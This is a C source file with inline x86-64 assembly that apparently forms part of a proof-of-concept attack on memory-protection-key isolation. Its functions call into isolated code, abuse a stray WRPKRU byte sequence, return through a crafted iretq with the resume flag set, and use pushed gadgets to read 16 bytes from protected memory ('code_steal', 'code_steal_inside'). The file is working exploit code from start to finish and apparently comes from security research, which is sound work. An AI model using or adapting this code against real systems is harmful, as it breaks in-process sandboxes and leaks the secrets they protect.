#include "code.h"

#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

#include "attack.h"

const uint8_t stray[STRAY_SIZE] = {0x0f, 0x01, 0xef, RET};

uint32_t code_rights(void)
{
	uint32_t rights, high;

	__asm__ volatile("rdpkru" : "=a"(rights), "=d"(high) : "c"(0));
	return rights;
}

void code_call(const void *code, uint32_t rights)
{
	uint32_t zero = 0;

	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
	                 "call *%[code]\n"
	                 "add $128, %%rsp"
	                 : "+a"(rights), "+c"(zero)
	                 : [code] "r"(code), "d"(0)
	                 : "memory", "cc", "r8", "r9");
}

/* Goes on at R10 with RFLAGS.RF set, on the same stack. */
extern const char resume_at[];

__asm__(".pushsection .text\n"
        "resume_at: mov %rsp, %r9\n"
        "mov %ss, %r11d\n"
        "push %r11\n"
        "push %r9\n"
        "pushfq\n"
        "orq $0x10000, (%rsp)\n"
        "mov %cs, %r11d\n"
        "push %r11\n"
        "push %r10\n"
        "iretq\n"
        ".popsection\n");

bool code_steal(const void *code, bool resuming, const void *from, uint64_t to[2])
{
	register const void *target __asm__("r10") = code;
	uint32_t application = code_rights();
	uint64_t low = 0, high = 0;
	uint32_t seen = ALL_RIGHTS;

	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
	                 "xor %%ecx, %%ecx\n"
	                 "xor %%edx, %%edx\n"
	                 "call *%[entry]\n"
	                 "xor %%ecx, %%ecx\n"
	                 "rdpkru\n"
	                 "test %%eax, %%eax\n"
	                 "jnz 1f\n"
	                 "mov (%[from]), %[low]\n"
	                 "mov 8(%[from]), %[high]\n"
	                 "mov %[application], %%eax\n"
	                 "xor %%ecx, %%ecx\n"
	                 "xor %%edx, %%edx\n"
	                 "call *%[code]\n"
	                 "xor %%eax, %%eax\n"
	                 "1: add $128, %%rsp"
	                 : "+a"(seen), [low] "+&r"(low), [high] "+&r"(high)
	                 : [code] "r"(target), [entry] "r"(resuming ? resume_at : code), [from] "r"(from),
	                   [application] "r"(application)
	                 : "memory", "cc", "rcx", "rdx", "r8", "r9", "r11");
	to[0] = low;
	to[1] = high;
	return seen == ALL_RIGHTS;
}

void code_steal_inside(const void *code, const void *gadget, uint32_t rights, const void *from,
                       uint64_t to[2])
{
	register const void *address __asm__("r10") = from;
	register uint64_t application __asm__("r11") = code_rights();
	register uint64_t low __asm__("r8");
	register uint64_t high __asm__("r9");

	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
	                 "lea 1f(%%rip), %%r9\n"
	                 "push %%r9\n"
	                 "push %[code]\n"
	                 "push %[gadget]\n"
	                 "mov %%ss, %%esi\n"
	                 "xor %%ecx, %%ecx\n"
	                 "xor %%edx, %%edx\n"
	                 "jmp *%[code]\n"
	                 "1: add $128, %%rsp"
	                 : "+a"(rights), "=&r"(low), "=&r"(high)
	                 : [code] "D"(code), [gadget] "b"(gadget), "r"(address), "r"(application)
	                 : "memory", "cc", "rcx", "rdx", "rsi");
	to[0] = low;
	to[1] = high;
}

uint8_t *code_memory(unsigned pages)
{
	uint8_t *memory =
	        mmap(NULL, pages * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		attack_refused("no memory");
	memset(memory, RET, pages * PAGE);
	return memory;
}

static void protect(void *memory, unsigned pages, int protection)
{
	if (!mprotect(memory, pages * PAGE, protection))
		return;
	perror("mprotect");
	attack_refused("mprotect");
}

void code_finish(void *memory, unsigned pages)
{
	protect(memory, pages, PROT_READ | PROT_EXEC);
}

void code_reopen(void *memory, unsigned pages)
{
	protect(memory, pages, PROT_READ | PROT_WRITE);
}
